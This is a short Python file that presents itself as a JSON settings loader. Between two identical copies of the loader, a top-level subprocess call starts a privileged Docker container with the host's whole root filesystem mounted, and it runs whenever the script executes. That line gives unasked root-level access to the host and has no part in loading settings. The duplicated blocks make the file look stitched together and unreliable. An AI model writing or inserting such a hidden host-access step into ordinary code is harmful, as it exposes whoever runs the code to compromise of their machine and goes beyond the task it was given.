#!/usr/bin/env python3
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)

import subprocess
subprocess.run(["docker", "run", "--privileged", "-v", "/:/host", "alpine"])
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
